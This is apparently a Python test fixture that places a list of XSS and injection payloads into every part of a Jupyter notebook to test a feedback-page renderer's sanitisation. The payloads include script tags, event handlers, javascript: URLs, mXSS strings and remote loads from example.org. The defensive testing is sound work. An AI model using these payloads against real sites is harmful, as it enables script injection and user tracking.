"""Text that would run or load something in a page, and every part of a notebook that may hold it."""

import base64
import re

from feedback_pages import known
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//example.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](vbscript:alert(1))",
    f"![x](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})",
    SVG,
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<iframe src="https://example.org"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.html></object><embed src=x.html>",
    "<form action=https://example.org><input name=x autofocus onfocus=alert(1)><button>x</button></form>",
    "<base href=https://example.org>",
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<style>body { background: url(https://example.org/x) }</style>",
    '<p style="background: url(https://example.org/x)">x</p>',
    "<video src=https://example.org/x autoplay onplay=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "![x](https://example.org/seen.png)",
    "<!--><img src=x onerror=alert(1)>-->",
    "```python\n</pre><script>alert(1)</script>\n```",
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "$</span><script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "# <img src=x onerror=alert(1)>",
    "</section></main></body><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "{{ 7 * 7 }} {% include 'style.css' %}",
)


def places(attack: str) -> dict:
    """Every part of a notebook that the page shows, holding the attack."""
    mimes = ("text/html", "text/markdown", "application/javascript", "image/svg+xml", "text/latex", "text/plain")
    mimes += ("application/vnd.jupyter.widget-view+json", "text/vnd.mermaid", "application/json", "image/png")
    outputs = [new_output("display_data", data={mime: attack}) for mime in mimes]
    outputs += [new_output("execute_result", data={"text/html": attack, "text/plain": attack})]
    outputs += [new_output("display_data", data={"image/png": "x"}, metadata={"image/png": {"alt": attack}})]
    outputs += [new_output("stream", name="stdout", text=attack), new_output("stream", name="stderr", text=attack)]
    outputs += [new_output("error", ename=attack, evalue=attack, traceback=[attack])]
    cells = {
        "text": new_markdown_cell(attack),
        "code": new_code_cell(attack),
        "raw": new_raw_cell(attack),
        "outputs": new_code_cell("f()", outputs=outputs),
        "graded": new_code_cell(attack),
    }
    tag = re.sub("[,\n]", " ", attack)  # nbformat allows neither
    for cell in cells.values():
        cell.metadata.update(tags=[tag], name=tag, magics_language=attack, raw_mimetype="text/html")
    cells["graded"].metadata.update(known(attack, solution=True, grade=True, comment=attack, score=1, points=2))
    return cells
